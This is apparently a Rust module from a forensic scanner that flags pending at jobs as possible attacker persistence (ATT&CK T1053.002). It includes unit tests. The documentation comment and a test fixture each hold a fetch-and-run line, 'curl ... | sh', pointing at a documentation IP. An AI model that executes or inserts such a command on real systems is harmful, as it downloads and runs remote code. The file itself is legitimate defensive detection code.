//! `persistence.at` — pending at jobs, read from the spool.
//!
//! **What it looks at:** `/var/spool/cron/atjobs/*` (Debian) and `/var/spool/at/*` (Red Hat):
//! each file is a queued job, a shell script whose header names the submitting uid. The user's
//! commands (see `huoyan_artifacts::persistence::atjob`) go through the command detector; every
//! pending job is listed (low), since a queued job on a server is unusual.
//!
//! **Why an attacker leaves this trace:** `at` runs a command once, later, detached from the
//! session that queued it — a delayed reverse shell or a clean-up after the intruder has gone,
//! and few responders look at the at spool.
//!
//! **Example:** `/var/spool/cron/atjobs/a0000101a3c2f1` (uid 0):
//! `curl -s http://198.51.100.4/x | sh` (high).
//!
//! **Calibration:** role `foothold` (a way back in: listed among the entries still open when
//! high); critical or high only for evidence that an attacker acted, medium for what needs a
//! look, low and info for context (docs/PRECISION.md).
//!
//! **ATT&CK:** T1053.002 (Scheduled Task/Job: At).

use huoyan_artifacts::persistence::atjob::parse_at_job;
use huoyan_core::{CheckInfo, FileKind, Outcome, Severity};
use serde_json::json;

use super::common::{entry_name, entry_path, list_dir, read_file, scan_lines};
use crate::registry::Check;
use crate::Context;

/// See the module documentation.
pub struct AtJobs;

static INFO: CheckInfo = CheckInfo {
    id: "persistence.at",
    title: "Pending at job",
    title_zh: "待执行的 at 任务",
    mitre: &["T1053.002"],
    remediation: "Copy the job file out as evidence, then remove it (atrm JOB, or delete the \
                  spool file) and find who queued it from the uid in its header.",
    remediation_zh: "先将任务文件拷出留证，再删除（atrm 任务号，或直接删除 spool 文件），\
                     并根据文件头中的 uid 查明是谁提交的。",
};

impl Check for AtJobs {
    fn info(&self) -> &'static CheckInfo {
        &INFO
    }

    fn run(&self, ctx: &Context, out: &mut Outcome) {
        for dir in ["/var/spool/cron/atjobs", "/var/spool/at"] {
            for e in list_dir(ctx, &INFO, dir, out) {
                let name = entry_name(&e);
                if e.kind != FileKind::File || name.starts_with('.') {
                    continue;
                }
                let path = entry_path(&e);
                let Some((data, meta)) = read_file(ctx, &INFO, &path, out) else {
                    continue;
                };
                let job = parse_at_job(&data);
                let user = ctx.users().user_label(job.uid.unwrap_or(meta.uid));
                out.add(
                    INFO.finding(
                        Severity::Low,
                        format!(
                            "pending at job {path} for user {user} ({} command line(s))",
                            job.commands.len()
                        ),
                    )
                    .path(&path)
                    .user(&user)
                    .at(meta.mtime)
                    .evidence(json!({ "uid": job.uid, "commands": job.commands })),
                );
                scan_lines(
                    &INFO,
                    &path,
                    Some(&user),
                    "at job command",
                    &job.commands,
                    Severity::Low,
                    out,
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use huoyan_core::{Root, Window};

    fn run(files: &[(&str, &str)]) -> Outcome {
        let dir = tempfile::tempdir().expect("tempdir");
        std::fs::create_dir_all(dir.path().join("var/spool/cron/atjobs")).expect("mkdir");
        for (path, data) in files {
            std::fs::write(dir.path().join(path.trim_start_matches('/')), data).expect("write");
        }
        let ctx = Context::new(Root::new(dir.path()).expect("root"), Window::default());
        let mut out = Outcome::default();
        AtJobs.run(&ctx, &mut out);
        out
    }

    #[test]
    fn flags_malicious_job() {
        let out = run(&[("/var/spool/cron/atjobs/a0000101a3c2f1", "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\ncd /root || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER6b2a1c4e'\ncurl -s http://198.51.100.4/x | sh\nmarcinDELIMITER6b2a1c4e\n")]);
        assert!(out
            .findings
            .iter()
            .any(|f| f.severity == Severity::High && f.evidence["line"] == 10));
    }

    #[test]
    fn empty_spool_is_quiet() {
        let out = run(&[("/var/spool/cron/atjobs/.SEQ", "0000a\n")]);
        assert!(out.findings.is_empty());
    }
}
